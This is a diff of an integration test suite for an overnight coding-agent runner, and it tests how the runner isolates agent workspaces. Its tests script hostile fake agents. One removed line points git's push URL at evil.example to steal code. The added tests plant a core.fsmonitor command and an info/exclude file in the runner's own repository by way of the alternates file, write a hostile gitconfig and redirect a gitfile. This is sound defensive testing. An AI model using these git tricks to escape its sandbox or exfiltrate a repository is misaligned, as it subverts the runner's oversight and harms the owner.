@@ -1,4 +1,5 @@
-import { existsSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import nock from 'nock';
 import { pino } from 'pino';
@@ -25,6 +26,7 @@ import {
   unmatchedRequests,
 } from '../helpers/github-mock.js';
 import { createTempRepo, type TempRepo } from '../helpers/temp-repo.js';
+import { snapshotTree } from '../helpers/tree-snapshot.js';
 
 let repo: TempRepo;
 let unmatched: ReturnType<typeof unmatchedRequests>;
@@ -54,8 +56,13 @@ function originBranches(): string[] {
   return repo.git(repo.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads/').trim().split('\n');
 }
 
-function worktrees(): string[] {
-  return repo.git(repo.dev, 'worktree', 'list', '--porcelain').split('\n').filter((line) => line.startsWith('worktree ')).map((line) => line.slice(9));
+const spare = () => join(repo.dataDir, 'workspaces', 'spare-0');
+
+/** What the runner's own git dir for the spare workspace sees there (the spare has no .git: it goes with its agent). */
+function spareStatus(): string {
+  const gitDir = join(repo.dataDir, 'git', 'sessions', 'spare-0');
+  const env = { ...process.env, GIT_COMMON_DIR: join(repo.dataDir, 'repo.git') };
+  return execFileSync('git', ['--git-dir', gitDir, '--work-tree', spare(), 'status', '--porcelain', '--ignored'], { env, encoding: 'utf8' });
 }
 
 function goalIssue(scope: nock.Scope, labels = ['overnight']) {
@@ -68,6 +75,7 @@ describe('the cycle against a real git repo', () => {
   it('edits, commits once with the protocol trailers and pushes agent/<session>, leaving the checkout alone', async () => {
     writeFileSync(join(repo.dev, 'README.md'), '# widgets\nuncommitted work\n');
     writeFileSync(join(repo.dev, 'scratch.txt'), 'untracked\n');
+    const clone = snapshotTree(repo.dev);
     const store = openTestStore(repo.dataDir);
     const config = testConfig(repo.dev, repo.dataDir, { pr: { openedBy: 'runner' } });
     const scope = nock(API);
@@ -132,9 +140,10 @@ describe('the cycle against a real git repo', () => {
     expect(readFileSync(join(repo.dev, 'README.md'), 'utf8')).toBe('# widgets\nuncommitted work\n');
     expect(readFileSync(join(repo.dev, 'scratch.txt'), 'utf8')).toBe('untracked\n');
     expect(repo.git(repo.dev, 'branch', '--format=%(refname:short)').trim()).toBe('main');
-    // The session's worktree was cleaned and kept as the spare for the next session.
-    expect(worktrees()).toStrictEqual([repo.dev, join(repo.dataDir, 'worktrees', 'spare-0')]);
-    expect(repo.git(join(repo.dataDir, 'worktrees', 'spare-0'), 'status', '--porcelain', '--ignored')).toBe('');
+    // The session's workspace was cleaned and kept as the spare for the next session.
+    expect(spareStatus()).toBe('');
+    expect(existsSync(join(spare(), '.git'))).toBe(false);
+    expect(snapshotTree(repo.dev)).toStrictEqual(clone);
     expect(readFileSync(session!.logPath!, 'utf8')).not.toContain(TOKEN);
   });
 
@@ -182,8 +191,8 @@ describe('the cycle against a real git repo', () => {
     const [session] = store.sessionsOfNight('2026-11-28');
     const patch = readFileSync(join(repo.dataDir, 'sessions', `${session!.id}.patch`), 'utf8');
     expect(patch).toContain('+++ b/.github/workflows/agent.yml');
-    expect(worktrees()).toStrictEqual([repo.dev, join(repo.dataDir, 'worktrees', 'spare-0')]);
-    expect(existsSync(join(repo.dataDir, 'worktrees', 'spare-0', '.github'))).toBe(false);
+    expect(spareStatus()).toBe('');
+    expect(existsSync(join(spare(), '.github'))).toBe(false);
   });
 
   it('redacts a token the agent prints, by shape and by value, in the session log', async () => {
@@ -406,7 +415,7 @@ describe('the cycle against a real git repo', () => {
     expect(store.sessionsOfNight('2026-11-28')).toStrictEqual([]);
     // The lost attempt leaves no claim behind to release.
     expect(store.claims.unreleased()).toStrictEqual([]);
-    expect(worktrees()).toStrictEqual([repo.dev]);
+    expect(existsSync(join(repo.dataDir, 'workspaces'))).toBe(false);
     expect(nock.pendingMocks()).toStrictEqual([]);
   });
 
@@ -512,17 +521,63 @@ describe('the cycle against a real git repo', () => {
     expect(nock.pendingMocks()).toStrictEqual([]);
   });
 
-  it("fails a session whose agent rewrote the clone's git config, and restores it", async () => {
+  it("pushes a hostile agent's change while its git attacks spring no trap and leave the clone byte-identical", async () => {
+    writeFileSync(join(repo.dev, 'scratch.txt'), 'untracked work\n');
+    const clone = snapshotTree(repo.dev);
+    const base = repo.git(repo.origin, 'rev-parse', 'main').trim();
+    const home = join(repo.root, 'home');
+    const traps = join(repo.root, 'traps');
+    mkdirSync(home);
+    mkdirSync(traps);
+    // The agent writes ~/.gitconfig and ~/.config/git: a home of the test's own.
+    vi.stubEnv('HOME', home);
+    vi.stubEnv('XDG_CONFIG_HOME', join(home, '.config'));
+    const store = openTestStore(repo.dataDir);
+    const scope = nock(API);
+    mockGate(scope);
+    goalIssue(scope);
+    mockClaim(scope, { released: false });
+    mockRunningLabel(scope, 12);
+    scope.get(`${REPO}/pulls`).query({ state: 'all', head: /acme:agent\/.+/, per_page: '1' }).reply(200, []);
+    const hostile = { ...nodeAgent('hostile-git.mjs'), env: { HOSTILE_TRAPS: traps, HOSTILE_ORIGIN: repo.origin } };
+    try {
+      const result = await testCycle(testConfig(repo.dev, repo.dataDir, { agents: { default: 'hostile', defs: { hostile } } }), store)(tick(), context());
+      expect(result.outcome).toBe('pushed');
+    } finally {
+      vi.unstubAllEnvs();
+    }
+    const [session] = store.sessionsOfNight('2026-11-28');
+    const report = JSON.parse(repo.git(repo.origin, 'show', `${session!.branch}:hostile-report.json`)) as Record<string, { ok: boolean; got: unknown }>;
+    // Each attack ran: the files were written, and its .git led it to the runner's repository, where it moved refs.
+    expect(report).toMatchObject({ 'own-git': { ok: true }, 'home-gitconfig': { ok: true }, 'gitfile-redirect': { ok: true } });
+    expect(String(report['reachable-repos']?.got)).toContain(`${join(repo.dataDir, 'repo.git')}: refs moved to`);
+    // ...and came back empty-handed: no hook, filter, fsmonitor, helper or ext:: command of the agent's ran.
+    expect(readdirSync(traps)).toStrictEqual([]);
+    expect(snapshotTree(repo.dev)).toStrictEqual(clone);
+    expect(repo.git(repo.origin, 'rev-parse', 'main').trim()).toBe(base);
+    expect(repo.git(repo.origin, 'rev-parse', `${session!.branch}^`).trim()).toBe(base);
+    expect(repo.git(repo.origin, 'show', `${session!.branch}:NOTES.md`)).toContain('hostile fake agent');
+    expect(nock.pendingMocks()).toStrictEqual([]);
+  });
+
+  it("fails a session whose agent, with no sandbox, rewrote the runner's own repository, and puts it back", async () => {
     const store = openTestStore(repo.dataDir);
     const scope = nock(API);
     endsBeforePublish(scope);
-    const configBefore = readFileSync(join(repo.dev, '.git', 'config'), 'utf8');
-    const config = testConfig(repo.dev, repo.dataDir, {
-      agents: { default: 'sneaky', defs: { sneaky: shellAgent('echo x >> NOTES.md; git config remote.origin.pushurl https://evil.example/steal.git') } },
-    });
+    const runnerRepo = join(repo.dataDir, 'repo.git');
+    const trap = join(repo.root, 'pwned');
+    const script = [
+      'echo x >> NOTES.md',
+      'repo=$(dirname "$(cat .git/objects/info/alternates)")',
+      `git --git-dir="$repo" config core.fsmonitor "touch ${trap}"`,
+      'mkdir -p "$repo/info" && echo "*" > "$repo/info/exclude"',
+    ].join('; ');
+    const config = testConfig(repo.dev, repo.dataDir, { agents: { default: 'sneaky', defs: { sneaky: shellAgent(script) } } });
     const result = await testCycle(config, store)(tick(), context());
-    expect(result).toStrictEqual({ outcome: 'failed', detail: "the agent changed the repository's git config (restored); nothing is pushed" });
-    expect(readFileSync(join(repo.dev, '.git', 'config'), 'utf8')).toBe(configBefore);
+    expect(result).toStrictEqual({ outcome: 'failed', detail: "the agent changed the runner's git repository (config, info/exclude; restored); nothing is pushed" });
+    expect(readFileSync(join(runnerRepo, 'config'), 'utf8')).not.toContain('fsmonitor');
+    expect(existsSync(join(runnerRepo, 'info', 'exclude'))).toBe(false);
+    expect(existsSync(trap)).toBe(false);
     expect(originBranches()).toStrictEqual(['refs/heads/main']);
     expect(nock.pendingMocks()).toStrictEqual([]);
   });
